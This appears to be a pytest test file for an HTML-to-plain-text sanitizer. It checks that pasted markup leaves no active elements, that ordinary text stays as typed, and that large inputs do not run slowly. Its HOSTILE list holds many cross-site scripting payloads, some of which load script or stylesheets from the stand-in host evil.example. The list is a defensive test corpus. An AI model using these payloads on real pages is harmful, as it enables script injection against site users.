"""Pasted HTML: a stranger's words come through, and nothing of theirs runs on our pages."""

import re
from html import unescape
from time import perf_counter

import html5lib
import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from convo.support.html import MOST_BLOCKS, to_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script>alert('</scr'+'ipt>')</script >",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img/src='x'onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    "<b><img src=x onerror=alert(1)></b",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><svg onload=alert(1)>'></title>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src=//evil.example/x.swf>",
    "<x onclick=alert(1)>x</x>",
    "<x/onclick=alert(1)>x</x>",
    "<https://onclick=alert(1)>",
    "<asha@example.org onclick=alert(1)>",
    "<my-element onclick=alert(1)>x</my-element>",
    "<o:p onclick=alert(1)>x</o:p>",
    "<div><div><div onmouseover=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&lt;im<!-- -->g src=x onerror=alert(1)&gt;",
    "<<b>img src=x onerror=alert(1)>",
    "<\x00script>alert(1)</script>",
    "<im\x01g src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--<img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><img src=x onerror=alert(1)>",
    "<!doctype html><html><head><title>t</title></head><body onload=alert(1)>x</body></html>",
]
# A harmless tag of an unknown name, such as '<sarcasm>', is words in angle brackets.
ACTIVE = """
script style img svg math template noscript iframe textarea xmp title a link meta base form input
button object embed html head body select option plaintext mtext mglyph frameset audio video
marquee keygen isindex image p div table
"""
KNOWN = nh3.ALLOWED_TAGS | set(ACTIVE.split())
SKELETON = {"html", "head", "body", "main"}

pieces = st.sampled_from(
    [*HOSTILE, *"<>&;/!-='\" \n", "&lt;", "&gt;", "<b>", "</p>", "<!--", "-->"]
)
soup = st.lists(pieces | st.text(max_size=4), max_size=8).map("".join)


def elements(page: str):
    return html5lib.parse(page, namespaceHTMLElements=False).iter()


def assert_no_markup(text: str):
    """Put unescaped into a page, the text makes no element that is known or has attributes."""
    for element in elements(f"<!doctype html><main>{text}\n</main>"):
        name = element.tag.rpartition("}")[2]
        if name in SKELETON:
            continue
        assert name not in KNOWN
        assert "-" not in name
        assert not any(attribute.startswith("on") for attribute in element.attrib)
        assert not any(element.attrib.values())


@pytest.mark.parametrize("pasted", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_html_leaves_no_markup(pasted):
    assert_no_markup(to_text(pasted))


@pytest.mark.parametrize("pasted", HOSTILE, ids=range(len(HOSTILE)))
def test_an_independent_cleaner_finds_nothing_left_to_take_away(pasted):
    text = to_text(pasted)
    # '</x>' is the end of a tag of no known name: words in brackets, which nh3 takes away.
    assert unescape(nh3.clean(text, tags=set())) == unescape(text).replace("</x>", "")


@given(soup)
def test_no_mixture_of_hostile_html_leaves_markup(pasted):
    assert_no_markup(to_text(pasted))


@given(soup)
def test_no_control_character_is_left(pasted):
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", to_text(pasted))


@pytest.mark.parametrize(
    "typed",
    [
        "",
        "I <3 this",
        "</3 so sad",
        "a < b and 5 > 3 & 2",
        "if x<y then",
        "AT&T, R&D; fish&chips",
        "https://example.org/?a=1&copy=2&lt=3",
        "<sarcasm>Great idea</sarcasm>",
        "Asha <asha@example.org> wrote",
        "  indented\n\tand tabbed  \n",
        "“Curly”, caf\u00e9, cafe\u0301, \u202eleft, 🗑️, ﬁ",
        "1 << 2 >> 3",
        "\n\nOne blank line stays\n\n",
        "Cost: $5; 50%; #tag; @name; ^_^; >_<",
    ],
)
def test_ordinary_text_stays_as_typed(typed):
    assert to_text(typed) == typed


@given(st.text(st.characters(exclude_characters="<&", exclude_categories=["Cc", "Cs"])))
def test_text_without_markup_stays_as_typed(typed):
    assert to_text(typed) == typed


@pytest.mark.parametrize(
    ("pasted", "text"),
    [
        ("<p>One <b>bold</b> word</p>\n<p>Two</p>", "One bold word\n\nTwo"),
        ("One<br>two<br/>\nthree<br><br>four", "One\ntwo\nthree\n\nfour"),
        ("<ul>\n  <li>One</li>\n  <li>Two</li>\n</ul>", "One\nTwo"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("a<table><tr><td>1<td>2<tr><td>3</table>b", "a\n\n1 2\n3\n\nb"),
        ("One<script>alert('two')</script> three", "One three"),
        ("One<style>p{color:red}</style> two", "One two"),
        ("One<!-- hidden --> two", "One two"),
        ("<a href='https://example.org' onclick='x()'>the page</a>", "the page"),
        ("See <https://example.org/?a=b>.", "See https://example.org/?a=b."),
        ("Write <script> and go on", "Write &lt;script> and go on"),
        ("One <!-- and go on", "One &lt;!-- and go on"),
        ("&pound;30 &amp; &#8364;40 &quot;x&quot;", '£30 & €40 "x"'),
        ("5 &lt; 6 &gt; 4", "5 < 6 > 4"),
        ("&amp;pound; &amp;amp; &amp;lt;3", "&pound; &amp; &lt;3"),
        ("&lt;b&gt;", "&lt;b>"),
        ("One\r\ntwo\rthree\x0cfour", "One\ntwo\nthree\nfour"),
        ("One\x00 t\x07wo\x7f \x9bthree&#7;", "One two three"),
        ("One\n\n\n \n\nTwo\n\nThree", "One\n\nTwo\n\nThree"),
    ],
)
def test_html_becomes_text(pasted, text):
    assert to_text(pasted) == text


@pytest.mark.parametrize(
    "pasted",
    [
        "<div>" * 20_000,
        "<" * 50_000,
        "<a" * 50_000,
        "<a " * 20_000 + ">",
        "&lt;" * 20_000,
        "<!--" * 20_000,
        "&" + "\n" * 100_000 + "x",
        "<br>" * 20_000,
    ],
    ids=["nested", "open", "names", "unfinished", "decoded", "comments", "lines", "breaks"],
)
def test_no_paste_takes_long(pasted):
    start = perf_counter()
    to_text(pasted)
    assert perf_counter() - start < 5


def test_a_page_of_very_many_blocks_keeps_its_words_and_breaks():
    text = to_text("<p>word</p>" * (MOST_BLOCKS + 1))
    assert text.split() == ["word"] * (MOST_BLOCKS + 1)
